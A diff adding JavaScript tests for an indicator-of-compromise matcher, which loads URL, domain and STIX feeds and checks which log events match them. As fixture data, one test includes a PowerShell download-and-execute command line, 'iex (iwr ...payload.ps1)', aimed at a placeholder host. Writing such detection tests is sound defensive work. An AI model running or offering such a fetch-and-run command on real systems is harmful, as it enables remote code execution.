@@ -0,0 +1,55 @@
+// IocMatcher: what a feed loads and which events its IOCs match
+const test = require('node:test');
+const assert = require('node:assert');
+const { pageGlobals } = require('./page-scripts');
+
+const { IocMatcher, BaseLogParser } = pageGlobals('IocMatcher', 'BaseLogParser');
+
+function events(buckets) {
+    return { ...BaseLogParser.createEmptyParsedData(), ...buckets };
+}
+
+function indicator(id, name, pattern) {
+    return { type: 'indicator', id, name, pattern, pattern_type: 'stix' };
+}
+
+test('a URL IOC matches the URL in a command line, not every lookup of its host', () => {
+    const matcher = new IocMatcher();
+    assert.strictEqual(matcher.loadFeed('hxxps://cdn.example[.]com/payload.ps1', 'urls.csv'), 1);
+    const matches = matcher.evaluate(events({
+        dnsQueries: [{ timestamp: '2024-03-01T10:00:00Z', queryName: 'cdn.example.com' }],
+        processes: [
+            { timestamp: '2024-03-01T10:00:01Z', commandLine: 'powershell -c "iwr https://cdn.example.com/readme.txt"' },
+            { timestamp: '2024-03-01T10:00:02Z', commandLine: 'powershell -c "iex (iwr \'https://CDN.example.com/payload.ps1\')"' }
+        ]
+    }));
+    assert.deepStrictEqual(Array.from(matches, match => `${match.field} ${match.value}`), ['commandLine https://CDN.example.com/payload.ps1']);
+});
+
+test('STIX indicators joining comparisons with AND are skipped and reported', () => {
+    const matcher = new IocMatcher();
+    const bundle = {
+        type: 'bundle',
+        objects: [
+            indicator('indicator--1', 'Dropper', "[file:name = 'drop.exe' AND file:hashes.'SHA-256' = '" + 'a'.repeat(64) + "']"),
+            indicator('indicator--2', 'C2', "[ipv4-addr:value = '203.0.113.5'] OR [domain-name:value = 'and.example']")
+        ]
+    };
+    assert.strictEqual(matcher.loadFeed(JSON.stringify(bundle), 'bundle.json'), 2);
+    assert.deepStrictEqual(Array.from(matcher.entries, entry => entry.listed), ['203.0.113.5', 'and.example']);
+    assert.deepStrictEqual(Array.from(matcher.errors, error => error.message), [
+        'Indicator "Dropper" is skipped: patterns joined with AND or FOLLOWEDBY are not supported'
+    ]);
+});
+
+test('reloading a file into one list leaves the same file name in the other list alone', () => {
+    const matcher = new IocMatcher();
+    matcher.loadFeed('evil.example', 'feed.csv', 'ioc');
+    matcher.loadFeed('cdn.example', 'feed.csv', 'allow');
+    matcher.removeFeeds('feed.csv', 'ioc');
+    matcher.loadFeed('worse.example', 'feed.csv', 'ioc');
+    assert.deepStrictEqual(Array.from(matcher.entries, entry => `${entry.list} ${entry.value}`), ['allow cdn.example', 'ioc worse.example']);
+
+    matcher.removeFeeds('feed.csv');
+    assert.strictEqual(matcher.entries.length, 0);
+});